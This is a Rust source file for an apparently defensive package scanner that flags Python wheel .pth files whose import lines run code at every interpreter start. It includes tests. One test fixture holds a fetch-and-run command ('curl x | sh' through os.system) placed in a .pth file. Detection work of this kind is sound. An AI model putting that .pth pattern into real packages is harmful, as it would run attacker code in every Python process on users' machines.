//! Python wheels: `.pth` files that run code at every interpreter start.
//!
//! A wheel runs nothing at install, but `site.py` executes every line starting with `import `
//! (or `import` and a tab) of each `*.pth` file in site-packages whenever Python starts. A
//! wheel's root (or `*.data/purelib|platlib/`) `.pth` file with such a line therefore runs in
//! every Python process on the machine: high. A `.pth` that only lists paths is not reported.

use serde_json::json;

use super::{RULE, Since, at_entry, shown};
use crate::artifact::Artifact;
use crate::manifest::Manifest;
use crate::rules::ctx::FileCtx;
use crate::rules::{Finding, Location, Severity};
use crate::sanitize::bytes_for_terminal;

/// A `.pth` file with lines that `site.py` executes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Pth {
    /// The entry's path in the wheel.
    path: String,
    /// 1-based line of the first `import` line.
    line: u32,
    /// That line, sanitised and cut.
    text: String,
    /// How many `import` lines there are.
    count: usize,
}

/// True for a `.pth` file that installs into site-packages itself: at the wheel's root or in
/// `*.data/purelib/` or `*.data/platlib/`. `site.py` skips names starting with a dot.
pub fn is_site_packages_pth(path: &str) -> bool {
    let parts: Vec<&str> = path.split('/').collect();
    let name = match parts.as_slice() {
        [name] => name,
        [data, "purelib" | "platlib", name] if data.ends_with(".data") => name,
        _ => return false,
    };
    name.ends_with(".pth") && !name.starts_with('.')
}

/// The name a `.pth` file has in site-packages (what identifies it across releases, whose
/// `*.data` folders carry the version).
fn installed_name(path: &str) -> String {
    if is_site_packages_pth(path) {
        crate::detect::text::file_name(path).to_owned()
    } else {
        path.to_owned()
    }
}

/// Reads a `.pth` file's `import` lines (lines starting with `import ` or `import\t`, as
/// `site.py` decides); `None` when it only lists paths.
pub fn pth(ctx: &FileCtx<'_>, bytes: &[u8]) -> Option<Pth> {
    let bytes = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(bytes);
    let mut first: Option<(u32, &[u8])> = None;
    let mut count = 0usize;
    for (i, line) in bytes.split(|&b| b == b'\n').enumerate() {
        if line.starts_with(b"import ") || line.starts_with(b"import\t") {
            count += 1;
            if first.is_none() {
                let line = line.strip_suffix(b"\r").unwrap_or(line);
                first = Some((u32::try_from(i + 1).unwrap_or(u32::MAX), line));
            }
        }
    }
    let (line, text) = first?;
    Some(Pth {
        path: ctx.path.to_owned(),
        line,
        text: shown(&bytes_for_terminal(text)),
        count,
    })
}

/// Reports a wheel's `.pth` files that run code.
pub(super) fn check(
    a: &Artifact,
    baseline: Option<&Manifest>,
    found: &[Pth],
    out: &mut Vec<Finding>,
) {
    for p in found {
        let entry = a.installed().find(|e| e.path == p.path);
        let since = Since::of(entry, baseline, installed_name);
        let name = installed_name(&p.path);
        let more = match p.count {
            1 => String::new(),
            n => format!(" (and {} more import lines)", n - 1),
        };
        let location = entry.map_or_else(
            || Location {
                path: p.path.clone(),
                line: Some(p.line),
                ..Location::default()
            },
            |e| at_entry(e, Some(p.line)),
        );
        out.push(
            Finding::new(
                &RULE,
                location,
                format!(
                    "`{}` runs code in every Python process once installed: `{}`{more}{}",
                    shown(&name),
                    p.text,
                    since.note()
                ),
            )
            .severity(since.severity(Severity::High))
            .evidence(json!({
                "ecosystem": "python",
                "runs": shown(&name),
                "line": p.text,
                "import_lines": p.count,
                "baseline": since.json(),
            })),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::super::tests::{PKG_INFO, SETUP, findings, sdist};
    use super::*;
    use crate::artifact::Format;
    use crate::rules::test_support::zip_artifact_of;

    fn wheel(files: &[(&str, &[u8])]) -> Artifact {
        let mut all: Vec<(&str, &[u8])> = vec![
            ("demo/__init__.py", b""),
            ("demo-1.0.dist-info/METADATA", PKG_INFO),
            ("demo-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
        ];
        all.extend_from_slice(files);
        let a = zip_artifact_of("demo-1.0-py3-none-any.whl", &all);
        assert_eq!(a.format, Format::Wheel);
        a
    }

    #[test]
    fn a_pth_with_an_import_line_runs_at_every_start() {
        let a = wheel(&[(
            "demo.pth",
            b"# comment\n/opt/extra\nimport os; os.system('curl x | sh')\x1b[2J\nimport\tsys\n",
        )]);
        let out = findings(&a, None);
        assert_eq!(out.len(), 1, "{out:?}");
        let f = &out[0];
        assert_eq!(f.severity, Severity::High);
        assert_eq!(
            (f.location.path.as_str(), f.location.line),
            ("demo.pth", Some(3))
        );
        assert!(f.message.contains("import os; os.system"), "{}", f.message);
        assert!(
            !f.message.contains('\x1b'),
            "the line is sanitised: {}",
            f.message
        );
        assert!(
            f.message.contains("(and 1 more import lines)"),
            "{}",
            f.message
        );
        assert_eq!(f.evidence["import_lines"], 2);
    }

    #[test]
    fn pth_files_that_only_list_paths_or_sit_deeper_are_not_reported() {
        let a = wheel(&[
            (
                "paths.pth",
                b"/opt/lib\n  import indented_is_a_path\n#import x\n",
            ),
            ("demo/inner.pth", b"import os\n"),
            (".hidden.pth", b"import os\n"),
        ]);
        assert!(findings(&a, None).is_empty());
        assert!(is_site_packages_pth("demo-1.0.data/purelib/x.pth"));
        assert!(is_site_packages_pth("demo-1.0.data/platlib/x.pth"));
        assert!(!is_site_packages_pth("demo-1.0.data/scripts/x.pth"));
        let sdist_pth = sdist(&[("setup.py", SETUP), ("x.pth", b"import os\n")]);
        assert!(
            findings(&sdist_pth, None)
                .iter()
                .all(|f| f.location.path != "x.pth"),
            "an sdist's .pth does not install as it is"
        );
    }

    #[test]
    fn a_new_pth_is_critical_even_when_the_data_folder_is_renamed() {
        let old = wheel(&[]);
        let new = wheel(&[("demo-1.0.data/purelib/demo.pth", b"import demo_hook\n")]);
        let out = findings(&new, Some(&Manifest::of(&old)));
        assert_eq!(out[0].severity, Severity::Critical);
        let next = {
            let mut all: Vec<(&str, &[u8])> = vec![
                ("demo-1.1.dist-info/METADATA", PKG_INFO),
                ("demo-1.1.data/purelib/demo.pth", b"import demo_hook\n"),
            ];
            all.push(("demo/__init__.py", b""));
            zip_artifact_of("demo-1.1-py3-none-any.whl", &all)
        };
        let out = findings(&next, Some(&Manifest::of(&new)));
        assert_eq!(
            out[0].severity,
            Severity::High,
            "the same .pth under the next version's data folder is not new"
        );
    }
}
